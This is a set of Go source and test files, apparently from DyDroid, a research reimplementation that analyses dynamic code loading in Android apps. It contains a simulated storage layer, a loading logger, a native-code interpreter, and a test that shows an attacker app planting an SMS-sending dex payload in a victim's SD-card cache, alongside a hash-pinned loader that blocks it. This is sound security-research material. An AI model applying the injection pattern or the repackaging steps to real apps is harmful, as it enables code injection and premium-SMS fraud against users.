		t.Fatal("fixed version lost classes")
	}
}

func TestUnpackCorruptDex(t *testing.T) {
	a := &apk.APK{Manifest: apk.Manifest{Package: "com.bad"}, Dex: []byte("garbage")}
	data, err := apk.Build(a)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := (Tool{}).Unpack(data); !errors.Is(err, ErrDecompile) {
		t.Fatalf("err = %v, want ErrDecompile", err)
	}
}

func TestRepackAddsPermission(t *testing.T) {
	data := buildTestAPK(t, []string{"com.test.Main"}, false)
	out, err := (Tool{}).Repack(data)
	if err != nil {
		t.Fatalf("Repack: %v", err)
	}
	a, err := apk.Parse(out)
	if err != nil {
		t.Fatal(err)
	}
	if !a.Manifest.HasPermission(apk.WriteExternalStorage) {
		t.Fatal("permission not injected")
	}
	if err := apk.VerifySignature(out); err != nil {
		t.Fatalf("repacked archive not re-signed: %v", err)
	}
}

func TestRepackKeepsExistingPermission(t *testing.T) {
	data := buildTestAPK(t, []string{"com.test.Main"}, false, apk.WriteExternalStorage)
	out, err := (Tool{}).Repack(data)
	if err != nil {
		t.Fatal(err)
	}
	a, err := apk.Parse(out)
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, p := range a.Manifest.Permissions {
		if p.Name == apk.WriteExternalStorage {
			n++
		}
	}
	if n != 1 {
		t.Fatalf("permission duplicated %d times", n)
	}
}

func TestAntiRepackagingBlocksRewrite(t *testing.T) {
	data := buildTestAPK(t, []string{"com.test.Main"}, true)
	if _, err := (Tool{}).Repack(data); !errors.Is(err, ErrRepack) {
		t.Fatalf("err = %v, want ErrRepack", err)
	}
	// Unpacking still works: only rewriting is defeated.
	if _, err := (Tool{}).Unpack(data); err != nil {
		t.Fatalf("Unpack of anti-repack app: %v", err)
	}
}

func TestHostileClassName(t *testing.T) {
	tests := []struct {
		name string
		want bool
	}{
		{"com.test.Main", false},
		{"com.test.0bad", true},
		{"com.test.-x", true},
		{"0bad", true},
		{"ok", false},
	}
	for _, tc := range tests {
		if got := hostileClassName(tc.name); got != tc.want {
			t.Fatalf("hostileClassName(%q) = %v", tc.name, got)
		}
	}
}
