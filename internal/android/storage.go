package android

import (
	"errors"
	"fmt"
	"sort"
	"strings"
	"sync"
)

// Well-known storage roots. These match the paths the paper reports from
// its measurement device.
const (
	// InternalRoot is the parent of per-app private directories
	// (/data/data/<pkg>/...).
	InternalRoot = "/data/data/"
	// ExternalRoot is the world-readable SD card mount.
	ExternalRoot = "/mnt/sdcard/"
	// SystemLibRoot holds OS-vendor native libraries; DCL of these is
	// skipped by the logger (paper §III-B).
	SystemLibRoot = "/system/lib/"
	// AppRoot is where installed APKs live.
	AppRoot = "/data/app/"
)

// SystemOwner is the owner label for OS-owned files.
const SystemOwner = "system"

// Storage errors.
var (
	// ErrPermission is returned when the writer may not modify the path.
	ErrPermission = errors.New("android: permission denied")
	// ErrNotExist is returned for missing files.
	ErrNotExist = errors.New("android: file does not exist")
	// ErrNoSpace is returned when the quota is exhausted — the "device
	// storage running out" exception DyDroid handles automatically.
	ErrNoSpace = errors.New("android: no space left on device")
)

// FileEntry is one stored file.
type FileEntry struct {
	Path  string
	Data  []byte
	Owner string // package name or SystemOwner
}

// Storage is the device's in-memory filesystem with Android ownership
// semantics. All methods are safe for concurrent use.
type Storage struct {
	dev   *Device
	mu    sync.Mutex
	files map[string]*FileEntry
	quota int64 // 0 = unlimited
	used  int64
}

func newStorage(dev *Device) *Storage {
	return &Storage{dev: dev, files: make(map[string]*FileEntry)}
}

// InternalDir returns the private data directory of a package.
func InternalDir(pkg string) string { return InternalRoot + pkg + "/" }

// OwnerOfInternalPath returns the package owning an internal-storage path,
// or "" when the path is not under /data/data/.
func OwnerOfInternalPath(path string) string {
	if !strings.HasPrefix(path, InternalRoot) {
		return ""
	}
	rest := strings.TrimPrefix(path, InternalRoot)
	if i := strings.IndexByte(rest, '/'); i > 0 {
		return rest[:i]
	}
	return rest
}

// IsExternal reports whether the path is on external storage.
func IsExternal(path string) bool { return strings.HasPrefix(path, ExternalRoot) }

// IsSystemLib reports whether the path is an OS-vendor library location.
func IsSystemLib(path string) bool { return strings.HasPrefix(path, SystemLibRoot) }

// mayWrite decides whether writer (a package name, or SystemOwner) may
// create or modify path. hasExternalPerm is whether the writer's manifest
// declares WRITE_EXTERNAL_STORAGE.
func (s *Storage) mayWrite(path, writer string, hasExternalPerm bool) error {
	if writer == SystemOwner {
		return nil
	}
	switch {
	case strings.HasPrefix(path, SystemLibRoot), strings.HasPrefix(path, AppRoot):
		return fmt.Errorf("%w: %s writing system path %s", ErrPermission, writer, path)
	case strings.HasPrefix(path, InternalRoot):
		if owner := OwnerOfInternalPath(path); owner != writer {
			return fmt.Errorf("%w: %s writing internal storage of %s", ErrPermission, writer, owner)
		}
		return nil
	case IsExternal(path):
		// Before KitKat any app may write external storage; from KitKat on
		// the permission is required (paper §III-B vulnerability analysis).
		if s.dev.APILevel() < KitKatAPILevel || hasExternalPerm {
			return nil
		}
		return fmt.Errorf("%w: %s writing external storage without %s", ErrPermission, writer, "WRITE_EXTERNAL_STORAGE")
	default:
		return fmt.Errorf("%w: %s writing unknown root %s", ErrPermission, writer, path)
	}
}

// WriteFile creates or replaces a file. writer is the package performing
// the write; hasExternalPerm its WRITE_EXTERNAL_STORAGE declaration.
func (s *Storage) WriteFile(path string, data []byte, writer string, hasExternalPerm bool) error {
	if err := s.mayWrite(path, writer, hasExternalPerm); err != nil {
		return err
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	var prev int64
	if old, ok := s.files[path]; ok {
		prev = int64(len(old.Data))
	}
	if s.quota > 0 && s.used-prev+int64(len(data)) > s.quota {
		return fmt.Errorf("%w: writing %d bytes to %s", ErrNoSpace, len(data), path)
	}
	s.used += int64(len(data)) - prev
	owner := writer
	if old, ok := s.files[path]; ok {
		owner = old.Owner // replacing content keeps original owner label
		if writer != old.Owner {
			owner = writer // a successful foreign write transfers ownership
		}
	}
	s.files[path] = &FileEntry{Path: path, Data: append([]byte(nil), data...), Owner: owner}
	return nil
}

// ReadFile returns a copy of the file contents. Reads are unrestricted:
// the measurement device (pre-Android-7 world-readable app dirs) allowed
// cross-app reads, which is precisely what enables the Table IX
// "internal storage of other apps" loading pattern.
func (s *Storage) ReadFile(path string) ([]byte, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	f, ok := s.files[path]
	if !ok {
		return nil, fmt.Errorf("%w: %s", ErrNotExist, path)
	}
	return append([]byte(nil), f.Data...), nil
}

// Stat returns the entry metadata without copying data.
func (s *Storage) Stat(path string) (owner string, size int64, err error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	f, ok := s.files[path]
	if !ok {
		return "", 0, fmt.Errorf("%w: %s", ErrNotExist, path)
	}
	return f.Owner, int64(len(f.Data)), nil
}

// Exists reports whether the path holds a file.
func (s *Storage) Exists(path string) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	_, ok := s.files[path]
	return ok
}

// Delete removes a file; only the owner (or system) may delete.
func (s *Storage) Delete(path, writer string) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	f, ok := s.files[path]
	if !ok {
		return fmt.Errorf("%w: %s", ErrNotExist, path)
	}
	if writer != SystemOwner && f.Owner != writer && !IsExternal(path) {
		return fmt.Errorf("%w: %s deleting file owned by %s", ErrPermission, writer, f.Owner)
	}
	s.used -= int64(len(f.Data))
	delete(s.files, path)
	return nil
}

// Rename moves a file; ownership travels with it. Permission rules follow
// Delete on the source and WriteFile on the destination.
func (s *Storage) Rename(oldPath, newPath, writer string, hasExternalPerm bool) error {
	if err := s.mayWrite(newPath, writer, hasExternalPerm); err != nil {
		return err
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	f, ok := s.files[oldPath]
	if !ok {
		return fmt.Errorf("%w: %s", ErrNotExist, oldPath)
	}
	if writer != SystemOwner && f.Owner != writer && !IsExternal(oldPath) {
		return fmt.Errorf("%w: %s renaming file owned by %s", ErrPermission, writer, f.Owner)
	}
	if oldPath == newPath {
		return nil // POSIX rename onto itself is a no-op
	}
	if old, replaced := s.files[newPath]; replaced {
		s.used -= int64(len(old.Data))
	}
	delete(s.files, oldPath)
	f.Path = newPath
	s.files[newPath] = f
	return nil
}

// List returns all paths with the given prefix, sorted.
func (s *Storage) List(prefix string) []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	var out []string
	for p := range s.files {
		if strings.HasPrefix(p, prefix) {
			out = append(out, p)
		}
	}
	sort.Strings(out)
	return out
}

// Used returns the bytes currently stored.
func (s *Storage) Used() int64 {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.used
}

// RemovePrefix deletes every file under prefix regardless of owner (a
// system maintenance operation, used by DyDroid's exception handling when
// storage runs out between apps).
func (s *Storage) RemovePrefix(prefix string) int {
	s.mu.Lock()
	defer s.mu.Unlock()
	n := 0
	for p, f := range s.files {
		if strings.HasPrefix(p, prefix) {
			s.used -= int64(len(f.Data))
			delete(s.files, p)
			n++
		}
	}
	return n
}
