package corpus

import (
	"context"
	"errors"
	"reflect"
	"testing"
	"time"
)

// TestStreamMatchesGenerate: the stream yields the same apps, in the
// same order, with the same specs and per-index-seeded metadata, as the
// materialized store at the same config.
func TestStreamMatchesGenerate(t *testing.T) {
	cfg := Config{Seed: 99, Scale: 0.002}
	st, err := Generate(cfg)
	if err != nil {
		t.Fatalf("Generate: %v", err)
	}
	as, err := Stream(context.Background(), cfg, 8)
	if err != nil {
		t.Fatalf("Stream: %v", err)
	}
	if as.Total != len(st.Apps) {
		t.Fatalf("stream total = %d, store has %d apps", as.Total, len(st.Apps))
	}
	if as.Store.Apps != nil {
		t.Fatal("stream store materialized its app list")
	}
	i := 0
	for app := range as.Apps() {
		want := st.Apps[i]
		if app.Index != i {
			t.Fatalf("app %d: stream Index = %d", i, app.Index)
		}
		if !reflect.DeepEqual(app.Meta, want.Meta) {
			t.Fatalf("app %d (%s): stream metadata %+v != store metadata %+v",
				i, want.Spec.Pkg, app.Meta, want.Meta)
		}
		if !reflect.DeepEqual(app.Spec, want.Spec) {
			t.Fatalf("app %d (%s): stream spec differs from store spec", i, want.Spec.Pkg)
		}
		i++
	}
	if i != as.Total {
		t.Fatalf("stream yielded %d apps, Total promised %d", i, as.Total)
	}
	// The archives must be byte-identical too; spot-check the first app.
	a1, err := st.BuildAPK(st.Apps[0])
	if err != nil {
		t.Fatalf("store BuildAPK: %v", err)
	}
	st2, err := Stream(context.Background(), cfg, 1)
	if err != nil {
		t.Fatalf("Stream: %v", err)
	}
	first := <-st2.Apps()
	a2, err := st2.Store.BuildAPK(first)
	if err != nil {
		t.Fatalf("stream BuildAPK: %v", err)
	}
	if string(a1) != string(a2) {
		t.Fatal("streamed app 0 builds a different archive than the materialized app 0")
	}
}

// TestGenerateContextCancelled: an already-cancelled context aborts
// generation before the plan runs.
func TestGenerateContextCancelled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := GenerateContext(ctx, Config{Seed: 1, Scale: 0.002}); !errors.Is(err, context.Canceled) {
		t.Fatalf("GenerateContext err = %v, want context.Canceled", err)
	}
	if _, err := Stream(ctx, Config{Seed: 1, Scale: 0.002}, 4); !errors.Is(err, context.Canceled) {
		t.Fatalf("Stream err = %v, want context.Canceled", err)
	}
}

// TestStreamCancelledMidDrain: cancelling the stream's context closes
// the channel early instead of blocking the producer forever.
func TestStreamCancelledMidDrain(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	as, err := Stream(ctx, Config{Seed: 7, Scale: 0.002}, 1)
	if err != nil {
		t.Fatalf("Stream: %v", err)
	}
	<-as.Apps() // take one, then abandon the stream
	cancel()
	n := 0
	for range as.Apps() {
		n++ // drain whatever was buffered before the close
	}
	if n > 2 {
		t.Fatalf("stream kept producing after cancel: %d extra apps", n)
	}
}

// TestMetadataPositionIndependent: app i's metadata depends only on
// (seed, index), never on the draws other apps made — the property the
// streaming producer relies on.
func TestMetadataPositionIndependent(t *testing.T) {
	release := time.Date(2016, 6, 1, 0, 0, 0, 0, time.UTC)
	mk := func() []*StoreApp {
		return []*StoreApp{
			{Spec: &Spec{Pkg: "com.a", AdMob: true}, Index: 0},
			{Spec: &Spec{Pkg: "com.b"}, Index: 1},
			{Spec: &Spec{Pkg: "com.c", OwnNative: true}, Index: 2},
		}
	}
	full := mk()
	assignMetadata(full, 42, release)
	// Re-assign only the last app: identical metadata even though the
	// earlier apps made no draws this time.
	solo := mk()[2:]
	assignMetadata(solo, 42, release)
	if !reflect.DeepEqual(solo[0].Meta, full[2].Meta) {
		t.Fatalf("metadata depends on earlier apps' draws:\nsolo %+v\nfull %+v", solo[0].Meta, full[2].Meta)
	}
}
