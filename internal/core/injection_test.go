package core

import (
	"crypto/sha256"
	"encoding/hex"
	"strings"
	"testing"

	"github.com/dydroid/dydroid/internal/android"
	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/dex"
	"github.com/dydroid/dydroid/internal/monkey"
	"github.com/dydroid/dydroid/internal/vm"
)

// These tests demonstrate the Table IX code-injection attack end to end,
// and the Grab'n Run-style mitigation the paper cites (Falsina et al.):
// an attacker app with only the SD-card write permission replaces the
// bytecode a vulnerable app caches on external storage; the vulnerable
// app then executes attacker code with all of its own permissions.

const sdJarPath = android.ExternalRoot + "im_sdk/jar/victim.jar"

// attackerPayload sends SMS when run — observable proof that attacker
// code executed inside the victim.
func attackerPayload(t *testing.T) []byte {
	t.Helper()
	b := dex.NewBuilder()
	m := b.Class("com.voice.Sdk", "java.lang.Object").Method("boot", dex.ACCPublic, 4, "V")
	m.NewInstance(1, "android.telephony.SmsManager").
		ConstString(2, "+premium").
		ConstString(3, "PWNED").
		InvokeVirtual(dex.MethodRef{Class: "android.telephony.SmsManager",
			Name: "sendTextMessage", Sig: "(Ljava/lang/String;Ljava/lang/String;)V"}, 1, 2, 3).
		ReturnVoid().Done()
	data, err := dex.Encode(b.File())
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// benignPayload is what the victim expects to load.
func benignPayload(t *testing.T) []byte {
	t.Helper()
	b := dex.NewBuilder()
	b.Class("com.voice.Sdk", "java.lang.Object").
		Method("boot", dex.ACCPublic, 2, "V").ReturnVoid().Done()
	data, err := dex.Encode(b.File())
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// victimApp loads the cached SD-card jar (if present) and invokes its
// entry point. secureDigest, when non-empty, switches to the pinned
// SecureDexClassLoader.
func victimApp(t *testing.T, pkg string, secureDigest string) *apk.APK {
	t.Helper()
	loaderClass := "dalvik.system.DexClassLoader"
	loaderSig := "(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/ClassLoader;)V"
	b := dex.NewBuilder()
	act := b.Class(pkg+".Main", "android.app.Activity")
	m := act.Method("onCreate", dex.ACCPublic, 8, "V", "Landroid/os/Bundle;")
	m.ConstString(1, sdJarPath).
		ConstString(2, android.InternalDir(pkg)+"odex")
	if secureDigest != "" {
		m.NewInstance(3, vm.SecureLoaderClass).
			ConstString(4, secureDigest).
			InvokeDirect(dex.MethodRef{Class: vm.SecureLoaderClass, Name: "<init>",
				Sig: "(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/ClassLoader;Ljava/lang/String;)V"},
				3, 1, 2, 0, 0, 4)
	} else {
		m.NewInstance(3, loaderClass).
			InvokeDirect(dex.MethodRef{Class: loaderClass, Name: "<init>", Sig: loaderSig},
				3, 1, 2, 0, 0)
	}
	m.NewInstance(5, "com.voice.Sdk").
		InvokeVirtual(dex.MethodRef{Class: "com.voice.Sdk", Name: "boot", Sig: "()V"}, 5).
		ReturnVoid().Done()
	return &apk.APK{
		Manifest: apk.Manifest{Package: pkg, MinSDK: 16,
			Permissions: []apk.UsesPerm{{Name: apk.WriteExternalStorage}},
			Application: apk.Application{Activities: []apk.Component{{Name: pkg + ".Main", Main: true}}}},
		Dex: mustEncodeFile(t, b),
	}
}

func mustEncodeFile(t *testing.T, b *dex.Builder) []byte {
	t.Helper()
	data, err := dex.Encode(b.File())
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func TestCodeInjectionAttackSucceedsOnVulnerableLoader(t *testing.T) {
	dev := android.NewDevice() // API 18: external storage world-writable
	// The attacker app — a different package with no special permissions —
	// plants its payload at the victim's cache path.
	if err := dev.Storage.WriteFile(sdJarPath, attackerPayload(t), "com.evil.flashlight", false); err != nil {
		t.Fatalf("attacker write: %v", err)
	}
	victim, err := dev.Packages.Install(victimApp(t, "com.longtukorea.snmg", ""))
	if err != nil {
		t.Fatal(err)
	}
	m, err := vm.New(dev, nil, victim, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	res := monkey.Exercise(m, 5, 1)
	if res.Outcome != monkey.OutcomeExercised {
		t.Fatalf("victim run: %+v", res)
	}
	// Attacker code ran inside the victim: the SMS event fired under the
	// victim's identity.
	evs := m.Events()
	if len(evs) != 1 || evs[0].Kind != "sms" || evs[0].Data != "PWNED" {
		t.Fatalf("attack not observed: %+v", evs)
	}
}

func TestSecureLoaderDefeatsInjection(t *testing.T) {
	benign := benignPayload(t)
	sum := sha256.Sum256(benign)
	digest := hex.EncodeToString(sum[:])

	t.Run("legitimate payload loads", func(t *testing.T) {
		dev := android.NewDevice()
		if err := dev.Storage.WriteFile(sdJarPath, benign, "com.victim.secure", true); err != nil {
			t.Fatal(err)
		}
		victim, err := dev.Packages.Install(victimApp(t, "com.victim.secure", digest))
		if err != nil {
			t.Fatal(err)
		}
		m, err := vm.New(dev, nil, victim, nil, nil)
		if err != nil {
			t.Fatal(err)
		}
		if res := monkey.Exercise(m, 5, 1); res.Outcome != monkey.OutcomeExercised {
			t.Fatalf("secure victim crashed on legitimate payload: %+v", res)
		}
	})

	t.Run("tampered payload rejected", func(t *testing.T) {
		dev := android.NewDevice()
		if err := dev.Storage.WriteFile(sdJarPath, attackerPayload(t), "com.evil.flashlight", false); err != nil {
			t.Fatal(err)
		}
		victim, err := dev.Packages.Install(victimApp(t, "com.victim.secure", digest))
		if err != nil {
			t.Fatal(err)
		}
		m, err := vm.New(dev, nil, victim, nil, nil)
		if err != nil {
			t.Fatal(err)
		}
		res := monkey.Exercise(m, 5, 1)
		if res.Outcome != monkey.OutcomeCrash ||
			!strings.Contains(res.Err.Error(), "SecurityException") {
			t.Fatalf("tampered payload not rejected: %+v", res)
		}
		// And crucially: no attacker behaviour executed.
		if evs := m.Events(); len(evs) != 0 {
			t.Fatalf("attacker code ran despite pinning: %+v", evs)
		}
	})
}

func TestSecureLoaderStillObservedByDyDroid(t *testing.T) {
	// Secure loads are still DCL: the logger must see them.
	benign := benignPayload(t)
	sum := sha256.Sum256(benign)
	dev := android.NewDevice()
	if err := dev.Storage.WriteFile(sdJarPath, benign, "com.victim.watch", true); err != nil {
		t.Fatal(err)
	}
	victim, err := dev.Packages.Install(victimApp(t, "com.victim.watch", hex.EncodeToString(sum[:])))
	if err != nil {
		t.Fatal(err)
	}
	logger := NewLogger("com.victim.watch", dev.Storage)
	m, err := vm.New(dev, nil, victim, logger, nil)
	if err != nil {
		t.Fatal(err)
	}
	if res := monkey.Exercise(m, 5, 1); res.Outcome != monkey.OutcomeExercised {
		t.Fatalf("run: %+v", res)
	}
	logger.FinalizeInterception()
	evs := logger.Events()
	if len(evs) != 1 || evs[0].Path != sdJarPath || evs[0].Intercepted == nil {
		t.Fatalf("secure load not logged/intercepted: %+v", evs)
	}
}
