package core

import (
	"fmt"
	"strings"
	"sync"

	"github.com/dydroid/dydroid/internal/android"
	"github.com/dydroid/dydroid/internal/vm"
)

// LogRoot is the external-storage directory where the DCL log and dumped
// binaries land (paper §IV: "The log of our dynamic analysis and the
// dumped loaded code are stored in the external storage of the device") —
// the reason DyDroid repackages apps with WRITE_EXTERNAL_STORAGE.
const LogRoot = android.ExternalRoot + "dydroid/"

// Logger is the framework instrumentation: it implements vm.Hooks,
// recording every DCL event with its stack trace, pushing loaded paths
// into the interception queue, blocking delete/rename on queued files,
// and immediately copying the loaded binaries (the interceptor).
type Logger struct {
	appPkg  string
	storage *android.Storage
	// DisableBlocking turns off the delete/rename interception queue (the
	// ablation measuring how many temporary loaded files would be lost).
	DisableBlocking bool
	// Eager copies loaded binaries at hook time instead of the paper's
	// dump-at-end design. The default (lazy) relies on the blocking queue
	// to keep temporary files alive until FinalizeInterception — exactly
	// the mutual-exclusion mechanism of §III-B.
	Eager bool

	mu     sync.Mutex
	events []*DCLEvent
	queue  map[string]bool
	logBuf strings.Builder
	// logErr remembers a storage failure while persisting logs, surfaced
	// to the pipeline's exception handling.
	logErr error
}

// NewLogger creates the instrumentation for one app run.
func NewLogger(appPkg string, storage *android.Storage) *Logger {
	return &Logger{appPkg: appPkg, storage: storage, queue: make(map[string]bool)}
}

// Events returns the logged DCL events in order.
func (l *Logger) Events() []*DCLEvent {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]*DCLEvent(nil), l.events...)
}

// LogError returns the first storage failure hit while persisting the
// analysis log, if any.
func (l *Logger) LogError() error {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.logErr
}

// OnClassLoaderInit implements vm.Hooks: one event per file on the
// dexPath, intercepted immediately.
func (l *Logger) OnClassLoaderInit(kind vm.LoaderKind, dexPath, optimizedDir string, stack []vm.StackElement) {
	for _, path := range strings.Split(dexPath, ":") {
		if path == "" {
			continue
		}
		l.record(&DCLEvent{
			Kind:         KindDex,
			API:          string(kind),
			Path:         path,
			OptimizedDir: optimizedDir,
			Stack:        stack,
		})
	}
}

// OnNativeLoad implements vm.Hooks.
func (l *Logger) OnNativeLoad(api vm.NativeLoadAPI, libPath string, stack []vm.StackElement) {
	l.record(&DCLEvent{
		Kind:      KindNative,
		API:       string(api),
		Path:      libPath,
		Stack:     stack,
		SystemLib: android.IsSystemLib(libPath),
	})
}

func (l *Logger) record(ev *DCLEvent) {
	if len(ev.Stack) > 0 {
		ev.CallSite = ev.Stack[0].Class
	}
	ev.Entity = classifyEntity(l.appPkg, ev.CallSite)
	// System binaries are logged but not queued or intercepted
	// (paper: "Our DCL logger skips the system binaries").
	if !ev.SystemLib {
		l.mu.Lock()
		l.queue[ev.Path] = true
		l.mu.Unlock()
		if l.Eager {
			if data, err := l.storage.ReadFile(ev.Path); err == nil {
				ev.Intercepted = data
			}
		}
	}
	l.mu.Lock()
	l.events = append(l.events, ev)
	l.mu.Unlock()
	l.appendLog(ev)
}

// appendLog persists a log line to external storage as the app (the
// injected permission makes this legal post-rewrite).
func (l *Logger) appendLog(ev *DCLEvent) {
	l.mu.Lock()
	fmt.Fprintf(&l.logBuf, "%s %s path=%s callsite=%s entity=%s\n",
		ev.Kind, ev.API, ev.Path, ev.CallSite, ev.Entity)
	content := l.logBuf.String()
	l.mu.Unlock()
	err := l.storage.WriteFile(LogRoot+l.appPkg+".log", []byte(content), l.appPkg, true)
	if err != nil {
		l.mu.Lock()
		if l.logErr == nil {
			l.logErr = err
		}
		l.mu.Unlock()
	}
}

// FinalizeInterception reads every queued loaded file that has not been
// copied yet — the dump phase of the paper's design. Files deleted during
// the run (only possible when blocking is disabled) are lost, which is
// precisely what the delete-blocking ablation measures.
func (l *Logger) FinalizeInterception() {
	l.mu.Lock()
	events := append([]*DCLEvent(nil), l.events...)
	l.mu.Unlock()
	for _, ev := range events {
		if ev.SystemLib || ev.Intercepted != nil {
			continue
		}
		if data, err := l.storage.ReadFile(ev.Path); err == nil {
			ev.Intercepted = data
		}
	}
}

// DumpIntercepted writes copies of all intercepted binaries under the
// LogRoot, returning the paths written.
func (l *Logger) DumpIntercepted() ([]string, error) {
	l.mu.Lock()
	events := append([]*DCLEvent(nil), l.events...)
	l.mu.Unlock()
	var out []string
	for i, ev := range events {
		if ev.Intercepted == nil {
			continue
		}
		dst := fmt.Sprintf("%sintercepted/%s/%d_%s", LogRoot, l.appPkg, i, baseName(ev.Path))
		if err := l.storage.WriteFile(dst, ev.Intercepted, l.appPkg, true); err != nil {
			return out, fmt.Errorf("core: dump intercepted: %w", err)
		}
		out = append(out, dst)
	}
	return out, nil
}

func baseName(path string) string {
	if i := strings.LastIndexByte(path, '/'); i >= 0 {
		return path[i+1:]
	}
	return path
}

// OnFileDelete implements vm.Hooks: deletes of queued files silently fail
// (the paper's mutual-exclusion trick preserving temporary ad-library
// files).
func (l *Logger) OnFileDelete(path string) bool {
	if l.DisableBlocking {
		return false
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.queue[path]
}

// OnFileRename implements vm.Hooks: renames of queued files are blocked.
func (l *Logger) OnFileRename(oldPath, newPath string) bool {
	if l.DisableBlocking {
		return false
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.queue[oldPath]
}

// classifyEntity compares the call-site class package against the
// application package (paper §III-B: "the package name can be used to
// determine if the DCL event was triggered by the main app or a third
// party library").
func classifyEntity(appPkg, callSite string) Entity {
	if callSite == "" {
		return EntityUnknown
	}
	if callSite == appPkg || strings.HasPrefix(callSite, appPkg+".") {
		return EntityOwn
	}
	return EntityThirdParty
}
