package nativebin

import (
	"errors"
	"fmt"
)

// Memory layout constants. The machine exposes a small flat address space:
// the data segment is mapped at DataBase, and Alloc hands out scratch
// memory from HeapBase upward (used for JNI argument marshaling and I/O
// buffers).
const (
	// MemSize is the size of the flat address space.
	MemSize = 1 << 18
	// DataBase is where the library's data segment is mapped.
	DataBase = 0x1000
	// HeapBase is where Alloc starts handing out memory.
	HeapBase = 0x10000
)

// Syscall numbers understood by the machine. The assignments follow the
// Linux ARM EABI flavour where one exists (ptrace is 26, exit is 1, ...),
// so disassembly of malicious libraries reads like the real thing.
const (
	SysExit    = 1
	SysRead    = 3
	SysWrite   = 4
	SysOpen    = 5
	SysClose   = 6
	SysUnlink  = 10
	SysTime    = 13
	SysSetuid  = 23
	SysGetuid  = 24
	SysPtrace  = 26
	SysRename  = 38
	SysConnect = 283
	SysSend    = 289
	// SysFindProc is a simulator-specific trap: resolve a package name (a
	// C-string pointer in R0) to a PID, standing in for the /proc scan
	// real process-hooking malware performs.
	SysFindProc = 0x80
)

// Errors returned by the machine.
var (
	// ErrStepBudget is returned when execution exceeds the step budget
	// (runaway or deliberately stalling native code).
	ErrStepBudget = errors.New("nativebin: step budget exhausted")
	// ErrNoSymbol is returned by Call for an unknown entry point.
	ErrNoSymbol = errors.New("nativebin: no such symbol")
	// ErrMemFault is returned for out-of-range memory access.
	ErrMemFault = errors.New("nativebin: memory fault")
)

// SyscallHandler connects native code to the simulated system. The VM
// installs a handler that routes file syscalls into the device storage,
// network syscalls into netsim, ptrace into the framework's process table,
// and time into the device clock — that routing is what lets DyDroid
// observe native malware behaviour.
type SyscallHandler interface {
	// Syscall handles trap number num with arguments from R0-R3. The
	// returned value lands in R0. mem grants access to machine memory for
	// pointer arguments.
	Syscall(mem Memory, num int64, args [4]int64) (int64, error)
}

// SyscallFunc adapts a function to SyscallHandler.
type SyscallFunc func(mem Memory, num int64, args [4]int64) (int64, error)

// Syscall implements SyscallHandler.
func (f SyscallFunc) Syscall(mem Memory, num int64, args [4]int64) (int64, error) {
	return f(mem, num, args)
}

// Memory is the machine memory view handed to syscall handlers.
type Memory interface {
	// ReadBytes copies n bytes starting at addr.
	ReadBytes(addr, n int64) ([]byte, error)
	// WriteBytes copies p into memory at addr.
	WriteBytes(addr int64, p []byte) error
	// ReadCString reads a NUL-terminated string at addr.
	ReadCString(addr int64) (string, error)
}

// Machine interprets SELF code. The zero value is not usable; construct
// with NewMachine.
type Machine struct {
	lib   *Library
	Regs  [NumRegs]int64
	flags int // sign of last comparison: -1, 0, +1
	mem   []byte
	sys   SyscallHandler
	// StepBudget bounds total instructions per Call. The default (1 << 20)
	// comfortably covers packer decryption loops while terminating
	// ptrace-style infinite loops.
	StepBudget int
	heap       int64
	stack      []int64
	exited     bool
}

// NewMachine maps the library and installs the syscall handler (which may
// be nil, making every Svc fail).
func NewMachine(lib *Library, sys SyscallHandler) *Machine {
	m := &Machine{
		lib:        lib,
		mem:        make([]byte, MemSize),
		sys:        sys,
		StepBudget: 1 << 20,
		heap:       HeapBase,
	}
	copy(m.mem[DataBase:], lib.Data)
	return m
}

// Alloc reserves n bytes of scratch memory and returns its address.
func (m *Machine) Alloc(n int64) (int64, error) {
	if n < 0 || m.heap+n > MemSize {
		return 0, fmt.Errorf("%w: alloc %d bytes at heap %#x", ErrMemFault, n, m.heap)
	}
	addr := m.heap
	m.heap += n
	return addr, nil
}

// WriteString copies a NUL-terminated string into fresh memory and returns
// its address — the JNI argument-marshaling helper.
func (m *Machine) WriteString(s string) (int64, error) {
	addr, err := m.Alloc(int64(len(s)) + 1)
	if err != nil {
		return 0, err
	}
	copy(m.mem[addr:], s)
	m.mem[addr+int64(len(s))] = 0
	return addr, nil
}

// ReadBytes implements Memory.
func (m *Machine) ReadBytes(addr, n int64) ([]byte, error) {
	if addr < 0 || n < 0 || addr+n > MemSize {
		return nil, fmt.Errorf("%w: read [%#x,%#x)", ErrMemFault, addr, addr+n)
	}
	return append([]byte(nil), m.mem[addr:addr+n]...), nil
}

// WriteBytes implements Memory.
func (m *Machine) WriteBytes(addr int64, p []byte) error {
	if addr < 0 || addr+int64(len(p)) > MemSize {
		return fmt.Errorf("%w: write [%#x,%#x)", ErrMemFault, addr, addr+int64(len(p)))
	}
	copy(m.mem[addr:], p)
	return nil
}

// ReadCString implements Memory.
func (m *Machine) ReadCString(addr int64) (string, error) {
	if addr < 0 || addr >= MemSize {
		return "", fmt.Errorf("%w: cstring at %#x", ErrMemFault, addr)
	}
	for i := addr; i < MemSize; i++ {
		if m.mem[i] == 0 {
			return string(m.mem[addr:i]), nil
		}
	}
	return "", fmt.Errorf("%w: unterminated cstring at %#x", ErrMemFault, addr)
}

